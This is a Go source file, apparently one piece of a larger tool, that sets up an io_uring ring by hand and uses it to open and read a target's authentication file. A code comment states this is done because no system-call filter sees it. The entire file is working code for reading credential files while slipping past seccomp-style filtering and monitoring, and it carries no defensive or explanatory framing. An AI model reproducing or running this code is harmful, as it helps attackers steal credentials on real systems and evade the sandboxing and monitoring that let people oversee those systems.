//go:build linux

package main

import (
	"errors"
	"runtime"
	"unsafe"

	"golang.org/x/sys/unix"
)

// What io_uring_setup(2) takes and gives, as far as it is used here.
type uringParams struct {
	sqEntries, cqEntries, flags, cpu, idle, features, wq uint32
	_                                                    [3]uint32
	sq                                                   struct{ head, tail, mask, entries, flags, dropped, array, _ uint32 }
	_                                                    uint64
	cq                                                   struct{ head, tail, mask, entries, overflow, cqes, flags, _ uint32 }
	_                                                    uint64
}

// uringSQE is a submission.
type uringSQE struct {
	opcode, flags uint8
	_             uint16
	fd            int32
	off, addr     uint64
	length        uint32
	opFlags       uint32
	userData      uint64
	_             [3]uint64
}

const (
	uringOpenAt   = 18
	uringSQRing   = 0
	uringSQEs     = 0x10000000
	uringGetEvent = 1
)

// uringRead opens the log-in by io_uring, which no filter of system calls sees.
func uringRead(t target) ([]byte, error) {
	var p uringParams
	ring, _, errno := unix.Syscall(unix.SYS_IO_URING_SETUP, 1, uintptr(unsafe.Pointer(&p)), 0)
	if errno != 0 {
		return nil, errno
	}
	shared := unix.PROT_READ | unix.PROT_WRITE
	size := max(p.sq.array+p.sqEntries*4, p.cq.cqes+p.cqEntries*16)
	rings, err := unix.Mmap(int(ring), uringSQRing, int(size), shared, unix.MAP_SHARED)
	if err != nil {
		return nil, err
	}
	sqes, err := unix.Mmap(int(ring), uringSQEs, int(unsafe.Sizeof(uringSQE{})), shared, unix.MAP_SHARED)
	if err != nil {
		return nil, err
	}
	path, err := unix.BytePtrFromString(t.auth())
	if err != nil {
		return nil, err
	}
	cwd := int32(unix.AT_FDCWD)
	*(*uringSQE)(unsafe.Pointer(&sqes[0])) = uringSQE{opcode: uringOpenAt, fd: cwd, addr: uint64(uintptr(unsafe.Pointer(path)))}
	*(*uint32)(unsafe.Pointer(&rings[p.sq.array])) = 0
	*(*uint32)(unsafe.Pointer(&rings[p.sq.tail])) = 1
	_, _, errno = unix.Syscall6(unix.SYS_IO_URING_ENTER, ring, 1, 1, uringGetEvent, 0, 0)
	runtime.KeepAlive(path)
	if errno != 0 {
		return nil, errno
	}
	result := *(*int32)(unsafe.Pointer(&rings[p.cq.cqes+8]))
	if result < 0 {
		return nil, errors.Join(errors.New("io_uring"), unix.Errno(-result))
	}
	return readAll(int(result))
}
